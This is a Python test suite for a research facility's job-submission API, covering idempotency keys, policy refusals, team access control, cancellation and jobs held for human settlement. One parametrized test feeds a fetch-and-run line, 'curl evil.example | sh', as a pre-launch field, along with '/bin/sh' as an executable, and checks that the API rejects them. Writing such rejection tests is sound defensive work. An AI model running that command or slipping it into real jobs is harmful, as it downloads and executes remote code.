"""Jobs over the facility API: launched once a key, told truly, refused with reasons.

Expected states, statuses and headers are those of the facility API's description (`vendor/all_spec_v2.json`) and of its
text on Idempotency-Key; expected values come from the toy capability's own formula.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from iri.facility import PROJECT, Facility, opened, specification
from yosegi.core.engine import Outcome, Work
from yosegi.core.errors import Unavailable
from yosegi.core.states import Effect

JOB = "/compute/job/toy.simulate@1"


@pytest.fixture
def pi(facility: Facility) -> Iterator[httpx.Client]:
    with facility.caller() as client:
        yield client


def over(client: httpx.Client, facility: Facility, job: str, resource: str = "toy.simulate@1") -> dict[str, Any]:
    """The job's status once it is over."""
    path = f"/compute/status/{resource}/{job}"
    facility.until(lambda: facility.call(lambda: facility.site.facility_jobs._state(job).final))
    status: dict[str, Any] = client.get(path).json()["status"]
    return status


def test_a_job_runs_the_capability_and_tells_its_outputs(facility: Facility, pi: httpx.Client) -> None:
    launched = pi.post(JOB, json=specification(0.5))
    assert launched.status_code == 200
    status = over(pi, facility, launched.json()["id"])
    assert (status["state"], status["exit_code"]) == ("completed", 0)
    # (x - 0.4)² of toy.simulate
    assert status["meta_data"]["yosegi"]["outcome"]["outputs"] == {"y": pytest.approx(0.01)}


def test_a_job_uses_no_sample_that_this_site_does_not_have_for_the_team(pi: httpx.Client) -> None:
    attributes = {"account": PROJECT, "custom_attributes": {"inputs": '{"sample": "s-0.125"}', "purpose": "research"}}
    specified = {"executable": "toy.measure@1", "name": "look", "attributes": attributes}
    answer = pi.post("/compute/job/toy.measure@1", json=specified)
    assert (answer.status_code, [one["code"] for one in answer.json()["reasons"]]) == (403, ["sample_unknown"])


def test_the_same_key_is_the_same_job(facility: Facility, pi: httpx.Client) -> None:
    headers = {"Idempotency-Key": "8e03978e-40d5-43e8-bc93-6894a57f9324"}
    first = pi.post(JOB, json=specification(0.25), headers=headers)
    again = pi.post(JOB, json=specification(0.25), headers=headers)
    assert [one.headers["Idempotency-Key-Reply"] for one in (first, again)] == ["miss", "hit"]
    assert first.json()["id"] == again.json()["id"] == headers["Idempotency-Key"]


def test_the_same_key_for_another_job_is_unprocessable(pi: httpx.Client) -> None:
    headers = {"Idempotency-Key": "another-body"}
    assert pi.post(JOB, json=specification(0.25), headers=headers).status_code == 200
    answer = pi.post(JOB, json=specification(0.75), headers=headers)
    assert (answer.status_code, answer.json()["code"]) == (422, "conflict")


def test_a_key_outlives_a_restart() -> None:
    with opened() as facility:
        headers = {"Idempotency-Key": "kept"}
        with facility.caller() as pi:
            assert pi.post(JOB, json=specification(), headers=headers).headers["Idempotency-Key-Reply"] == "miss"
            over(pi, facility, "kept")
        facility.do(facility.close())
        facility.do(facility.open())
        with facility.caller() as pi:
            assert pi.post(JOB, json=specification(), headers=headers).headers["Idempotency-Key-Reply"] == "hit"
        assert sum(facility.federation.world.effects.values()) == 1


def test_a_key_whose_launch_died_before_the_task_was_asked_for_still_means_that_job(
    facility: Facility, pi: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    headers = {"Idempotency-Key": "died-between"}

    async def die(*_: object, **__: object) -> None:
        raise Unavailable("the disk", "it is full")

    with monkeypatch.context() as broken:
        broken.setattr(facility.site.facility_jobs.asking, "ask", die)
        answer = pi.post(JOB, json=specification(), headers=headers)
        assert (answer.status_code, answer.headers["Retry-After"]) == (409, "2")
    assert pi.get("/compute/status/toy.simulate@1/died-between").json()["status"]["state"] == "new"
    assert pi.post(JOB, json=specification(), headers=headers).headers["Idempotency-Key-Reply"] == "hit"
    assert over(pi, facility, "died-between")["state"] == "completed"


def test_a_job_is_found_by_its_name_when_it_is_over(facility: Facility, pi: httpx.Client) -> None:
    job = pi.post(JOB, json=specification(0.5, name="found-again")).json()["id"]
    over(pi, facility, job)
    path, asked = "/compute/status/toy.simulate@1", {"name": "found-again"}
    assert pi.post(path, json=asked).json() == []
    found = pi.post(path, json=asked, params={"historical": "true", "include_spec": "true"}).json()
    assert [(one["id"], one["job_spec"]["name"]) for one in found] == [(job, "found-again")]


def test_what_policy_refuses_is_forbidden_with_its_reason(pi: httpx.Client) -> None:
    attributes = {"account": PROJECT, "custom_attributes": {"inputs": '{"x": 0.5}', "purpose": "weapons"}}
    answer = pi.post(JOB, json=specification(attributes=attributes))
    problem = answer.json()
    assert (answer.status_code, answer.headers["content-type"]) == (403, "application/problem+json")
    assert [one["code"] for one in problem["reasons"]] == ["purpose_not_covered"]
    assert all(one["en"] and one["ja"] for one in problem["reasons"])


def test_inputs_that_the_contract_does_not_allow_are_named(pi: httpx.Client) -> None:
    answer = pi.post(JOB, json=specification(7.0))
    assert (answer.status_code, answer.json()["invalid_params"][0]["name"]) == (400, "inputs of toy.simulate@1")


@pytest.mark.parametrize(
    "change",
    [
        {"pre_launch": "curl evil.example | sh"},
        {"container": {"image": "docker.io/library/ubuntu:latest"}},
        {"executable": "/bin/sh"},
        {"arguments": ["-c", "true"]},
        {"attributes": {"custom_attributes": {"inputs": "{}"}}},
        {"attributes": {"account": PROJECT, "custom_attributes": {"inputs": "{}", "constraint": "gpu"}}},
        {"attributes": {"account": PROJECT, "custom_attributes": {"inputs": "[1]"}}},
        {"partition": "debug"},
    ],
    ids=lambda change: next(iter(change)),
)
def test_what_this_site_does_not_do_is_refused_and_not_left_out(pi: httpx.Client, change: dict[str, Any]) -> None:
    answer = pi.post(JOB, json=specification(**change))
    assert answer.status_code == 400
    assert answer.json()["invalid_params"]


def test_a_strangers_team_pays_for_nothing(facility: Facility) -> None:
    with facility.caller("stranger") as stranger:
        assert stranger.post(JOB, json=specification()).status_code == 404
        assert stranger.get("/account/projects").json() == []


def test_a_job_of_another_team_is_not_shown(facility: Facility, pi: httpx.Client) -> None:
    job = pi.post(JOB, json=specification()).json()["id"]
    with facility.caller("stranger") as stranger:
        assert stranger.get(f"/compute/status/toy.simulate@1/{job}").status_code == 404
        assert stranger.delete(f"/compute/cancel/toy.simulate@1/{job}").status_code == 404
        assert stranger.post("/compute/status/toy.simulate@1", params={"historical": "true"}).json() == []


def test_a_job_that_waits_for_a_person_is_held_and_can_be_cancelled(facility: Facility, pi: httpx.Client) -> None:
    launched = pi.post("/compute/job/toy.beam@1", json=specification(executable="toy.beam@1")).json()
    path = f"/toy.beam@1/{launched['id']}"
    facility.until(lambda: pi.get(f"/compute/status{path}").json()["status"]["state"] == "held")
    assert pi.delete(f"/compute/cancel{path}").status_code == 204
    facility.until(lambda: pi.get(f"/compute/status{path}").json()["status"]["state"] == "canceled")
    assert pi.delete(f"/compute/cancel{path}").status_code == 204


def test_a_job_that_is_over_cannot_be_cancelled(facility: Facility, pi: httpx.Client) -> None:
    job = pi.post(JOB, json=specification()).json()["id"]
    over(pi, facility, job)
    assert pi.delete(f"/compute/cancel/toy.simulate@1/{job}").status_code == 409


def test_a_signed_job_cannot_be_updated_to_another(pi: httpx.Client) -> None:
    job = pi.post(JOB, json=specification(0.5)).json()["id"]
    assert pi.put(f"{JOB}/{job}", json=specification(0.5)).status_code == 200
    assert pi.put(f"{JOB}/{job}", json=specification(0.6)).status_code == 409


def test_a_job_whose_effect_nobody_knows_is_held_until_a_person_settles_it() -> None:
    with opened() as facility, facility.caller() as pi:
        engine = facility.federation.places["argonne"].engine
        assert engine is not None

        async def lose(work: Work, progress: object) -> Outcome:
            return Outcome.failed(Effect.UNKNOWN, "station_silent", "in the middle")

        engine.run = lose  # type: ignore[method-assign]
        job = pi.post("/compute/job/toy.make@1", json=specification(executable="toy.make@1")).json()["id"]
        path = f"/compute/status/toy.make@1/{job}"
        facility.until(lambda: pi.get(path).json()["status"]["state"] == "held")
        status = pi.get(path).json()["status"]
        assert (status["state"], status["meta_data"]["yosegi"]["state"]) == ("held", "uncertain")
        assert "exit_code" not in status
        assert pi.delete(f"/compute/cancel/toy.make@1/{job}").status_code == 409
        with facility.caller("operator") as operator:
            there = f"http://127.0.0.1:{facility.port}/api/v1/tasks/argonne/{job}/settle"
            assert operator.post(there, json={"effect": "done", "note": "I looked"}).status_code == 200
        facility.until(lambda: facility.call(lambda: facility.site.facility_jobs._state(job).final))
        assert pi.get(path).json()["status"]["state"] == "failed"
